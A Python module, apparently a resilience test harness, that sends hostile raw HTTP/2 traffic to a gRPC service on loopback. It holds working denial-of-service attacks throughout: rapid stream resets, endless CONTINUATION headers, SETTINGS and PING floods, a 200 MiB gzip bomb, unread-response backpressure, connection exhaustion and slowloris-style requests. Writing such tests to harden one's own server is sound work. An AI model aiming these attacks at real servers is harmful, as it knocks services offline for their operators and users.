"""Hostile and clumsy callers in raw HTTP/2 on loopback. Each runs for some seconds and returns what it did, as text."""

import contextlib
import gzip
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
METHOD = "/halles.inventory.v1.InventoryService/GetAvailability"
CANCEL = b"\0\0\0\x08"
FRAME_BYTES_MAX = 16384
WINDOW_BYTES = 65535  # of a connection and of a stream, until the server allows more


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    """A header that is not added to the HPACK table."""

    def text(of):
        raw = of.encode()
        if len(raw) < 127:
            return bytes([len(raw)]) + raw
        left, out = len(raw) - 127, bytearray([127])
        while left >= 128:
            out.append(left % 128 + 128)
            left //= 128
        out.append(left)
        return bytes(out) + raw

    return b"\0" + text(name) + text(value)


def head(*more, path=METHOD):
    """The headers of a call."""
    pairs = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "x"),
             ("content-type", "application/grpc"), ("te", "trailers"), *more]
    return b"".join(literal(name, value) for name, value in pairs)


def message(body):
    return b"\0" + struct.pack(">I", len(body)) + body


def call(stream, headers, body):
    """A call with its whole request."""
    return frame(HEADERS, END_HEADERS, stream, headers) + frame(DATA, END_STREAM, stream, message(body))


class Connection:
    """One that is opened again when the server has closed it, unless nobody takes it. It never acknowledges SETTINGS."""

    def __init__(self, port, reads=True):
        self.port = port
        self.reads = reads
        self.opened = 0
        self.socket = None

    def send(self, data):
        """False if the server did not accept the data."""
        try:
            if self.socket is None:
                self.socket = socket.create_connection(("127.0.0.1", self.port), timeout=5)
                self.opened += 1
                self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0))
                self.began()
            self.socket.sendall(data)
            self.socket.setblocking(False)
            with contextlib.suppress(BlockingIOError):
                while received := self.socket.recv(1 << 20, 0 if self.reads else socket.MSG_PEEK):
                    self.received(received)
                    if not self.reads:
                        raise BlockingIOError
                raise ConnectionResetError  # its end
            self.socket.settimeout(5)
            return True
        except OSError:
            self.close()
            return False

    def began(self):
        """For subclasses: it was opened."""

    def received(self, data):
        """For subclasses: so much came."""

    def close(self):
        if self.socket is not None:
            self.socket.close()
            self.socket = None


class Uploads(Connection):
    """Sends large messages on many streams at once, no faster than the server allows."""

    def __init__(self, port, headers, body, streams_max, ends):
        super().__init__(port)
        self.headers = headers
        self.bytes = message(body)
        self.streams_max = streams_max
        self.ends = ends

    def began(self):
        self.buffer = bytearray()
        self.window = WINDOW_BYTES
        self.windows = {}
        self.sent = {}
        self.newest = -1

    def received(self, data):
        self.buffer += data
        while len(self.buffer) >= 9:
            length = int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < 9 + length:
                return
            kind, flags = self.buffer[3], self.buffer[4]
            stream = int.from_bytes(self.buffer[5:9], "big")
            if kind == WINDOW_UPDATE and stream == 0:
                self.window += int.from_bytes(self.buffer[9:13], "big")
            elif kind == WINDOW_UPDATE and stream in self.windows:
                self.windows[stream] += int.from_bytes(self.buffer[9:13], "big")
            elif kind == RESET or (kind == HEADERS and flags & END_STREAM):
                self.sent.pop(stream, None)
                self.windows.pop(stream, None)
            del self.buffer[:9 + length]

    def step(self):
        """The next frames that may be sent."""
        if self.socket is None:
            return b""
        out = bytearray()
        if len(self.sent) < self.streams_max:
            self.newest += 2
            self.windows[self.newest], self.sent[self.newest] = WINDOW_BYTES, 0
            out += frame(HEADERS, END_HEADERS, self.newest, self.headers)
        for stream, sent in list(self.sent.items()):
            left = len(self.bytes) - sent - (0 if self.ends else 1)
            size = min(FRAME_BYTES_MAX, left, self.window, self.windows[stream])
            if size <= 0:
                continue
            last = END_STREAM if self.ends and size == left else 0
            out += frame(DATA, last, stream, self.bytes[sent:sent + size])
            self.sent[stream] += size
            self.windows[stream] -= size
            self.window -= size
            if len(out) > 1 << 18:
                break
        return bytes(out)


def upload(port, seconds, count, **how):
    connections = [Uploads(port, **how) for _ in range(count)]
    until = time.monotonic() + seconds
    sent = 0
    while time.monotonic() < until:
        for connection in connections:
            data = connection.step()
            if connection.send(data):
                sent += len(data)
            if time.monotonic() >= until:
                break
    return f"{sent >> 20} MiB over {sum(connection.opened for connection in connections)} connections"


def many(port, seconds, count, bytes_of, reads=True):
    """`count` connections in turn, each sending what `bytes_of(number of its frames so far)` gives."""
    connections = [Connection(port, reads) for _ in range(count)]
    steps = [0] * count
    until = time.monotonic() + seconds
    sent = 0
    while time.monotonic() < until:
        for at, connection in enumerate(connections):
            data = bytes_of(steps[at])
            if data is None:
                data = b""
            steps[at] = steps[at] + 1 if connection.send(data) else 0
            sent += len(data)
            if time.monotonic() >= until:
                break
    return f"{sent >> 20} MiB over {sum(connection.opened for connection in connections)} connections"


def resets(port, seconds):
    """Opens calls and resets them immediately, as fast as possible, on two connections."""
    headers = head()
    body = b"\0\0\0\0\3\n\1A"

    def data(step):
        out = bytearray()
        for number in range(200):
            stream = 1 + 2 * (step * 200 + number)
            out += frame(HEADERS, END_HEADERS, stream, headers) + frame(DATA, END_STREAM, stream, body)
            out += frame(RESET, 0, stream, CANCEL)
        return bytes(out)

    return many(port, seconds, 2, data)


def halves(port, seconds):
    """A thousand connections of a hundred calls each, whose messages never end."""
    headers = head()
    half = b"\0\0\x0f\xff\xff" + bytes(50)

    def data(step):
        if step > 0:
            return None
        return b"".join(frame(HEADERS, END_HEADERS, stream, headers) + frame(DATA, 0, stream, half)
                        for stream in range(1, 200, 2))

    return many(port, seconds, 1000, data)


def large_halves(port, seconds):
    """Fifty connections of calls with nearly a mebibyte each, whose last byte never comes."""
    return upload(port, seconds, 50, headers=head(), body=bytes(1_000_000), streams_max=1000, ends=False)


def large_requests(port, seconds):
    """Fifty connections of calls with nearly a mebibyte each, in a field that nobody knows, as many as may come."""
    body = b"\x7a" + b"\xc0\x84\x3d" + bytes(1_000_000)  # field 15
    return upload(port, seconds, 50, headers=head(), body=body, streams_max=100, ends=True)


def long_headers(port, seconds):
    """Calls with 60 KB of headers, most of which come in continuations that never end."""
    block = head(("padding", "x" * 60_000))
    parts = [block[at:at + FRAME_BYTES_MAX] for at in range(0, len(block), FRAME_BYTES_MAX)]

    def data(step):
        stream = 1 + 2 * step
        out = frame(HEADERS, 0, stream, parts[0])
        for part in parts[1:-1]:
            out += frame(CONTINUATION, 0, stream, part)
        return out + frame(CONTINUATION, END_HEADERS, stream, parts[-1])

    return many(port, seconds, 50, data)


def settings(port, seconds):
    """Only SETTINGS frames, each of which must be acknowledged."""
    burst = frame(SETTINGS, 0, 0) * 1000
    return many(port, seconds, 4, lambda step: burst)


def pings(port, seconds):
    """Nothing but PINGs, each of which wants an answer that is not read."""
    burst = frame(PING, 0, 0, bytes(8)) * 1000
    return many(port, seconds, 4, lambda step: burst, reads=False)


def bombs(port, seconds):
    """Small messages that would inflate to 200 MiB."""
    packed = gzip.compress(bytes(200 << 20), 9)
    bomb = b"\1" + struct.pack(">I", len(packed)) + packed
    headers = head(("grpc-encoding", "gzip"))

    def data(step):
        stream = 1 + 2 * step
        out = frame(HEADERS, END_HEADERS, stream, headers)
        for at in range(0, len(bomb), FRAME_BYTES_MAX):
            last = END_STREAM if at + FRAME_BYTES_MAX >= len(bomb) else 0
            out += frame(DATA, last, stream, bomb[at:at + FRAME_BYTES_MAX])
        return out

    return many(port, seconds, 4, data)


def hundreds(of_stream):
    """For `many`: a hundred calls a step."""
    return lambda step: b"".join(of_stream(1 + 2 * (step * 100 + number)) for number in range(100))


def unknown_methods(port, seconds):
    """Calls of methods that nobody has, faster than they are answered."""
    headers = head(path=METHOD.replace("Get", "Got"))
    return many(port, seconds, 4, hundreds(lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, headers)))


def unread_unknown(port, seconds):
    """The same, and no answer is read."""
    headers = head(path=METHOD.replace("Get", "Got"))
    return many(port, seconds, 4, hundreds(lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, headers)),
                reads=False)


def unread_answers(port, seconds):
    """Calls of a method that somebody has, whose answers are not read."""
    headers = head()
    return many(port, seconds, 4, hundreds(lambda stream: call(stream, headers, b"\n\1A")), reads=False)


def unread_streams(port, seconds):
    """Two hundred connections that read the log on a hundred streams each, and take no record."""
    headers = head(path="/halles.admin.v1.AdminService/TailLog")

    def data(step):
        if step > 0:
            return None
        return b"".join(call(1 + 2 * number, headers, b"\n\x08checkout\x10" + bytes([number % 8]) + b"\x28\x01")
                        for number in range(100))

    return many(port, seconds, 200, data, reads=False)


def unread_watches(port, seconds):
    """A thousand connections that watch the health on a hundred streams each."""
    headers = head(path="/grpc.health.v1.Health/Watch")

    def data(step):
        return b"".join(call(1 + 2 * number, headers, b"") for number in range(100)) if step == 0 else None

    return many(port, seconds, 1000, data, reads=False)


def connections(port, seconds):
    """As many connections as possible, more than the server has files."""
    held = []
    refused = 0
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        if len(held) >= 1500:
            held.pop(0).close()
        try:
            held.append(socket.create_connection(("127.0.0.1", port), timeout=2))
        except OSError:
            refused += 1
    return f"{len(held)} held at the end, {refused} refused"


def scrapes(port, seconds):
    """Two hundred unfinished requests for metrics, again and again."""
    held = []
    opened = 0
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        if len(held) >= 200:
            held.pop(0).close()
        with contextlib.suppress(OSError):
            held.append(socket.create_connection(("127.0.0.1", port), timeout=2))
            held[-1].sendall(b"GET /metrics HTTP/1.1\r\nHost: x\r\n")
            opened += 1
    return f"{opened} requests"


ATTACKS = {function.__name__: function
           for function in (resets, halves, large_halves, large_requests, long_headers, settings, pings, bombs,
                            unknown_methods, unread_unknown, unread_answers, unread_streams, unread_watches,
                            connections, scrapes)}

if __name__ == "__main__":
    print(ATTACKS[sys.argv[1]](int(sys.argv[2]), float(sys.argv[3])))
